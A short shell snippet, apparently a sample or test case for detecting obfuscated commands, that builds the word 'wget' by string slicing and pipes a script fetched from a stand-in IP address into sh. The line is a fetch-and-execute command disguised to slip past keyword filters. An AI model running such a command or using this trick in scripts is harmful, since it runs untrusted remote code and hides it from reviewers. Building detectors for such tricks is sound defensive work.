# assembled-name: substring slicing cuts a command name out of a longer word
s=xxwgetyy
${s:2:4} -qO- http://203.0.113.7/w.sh | sh
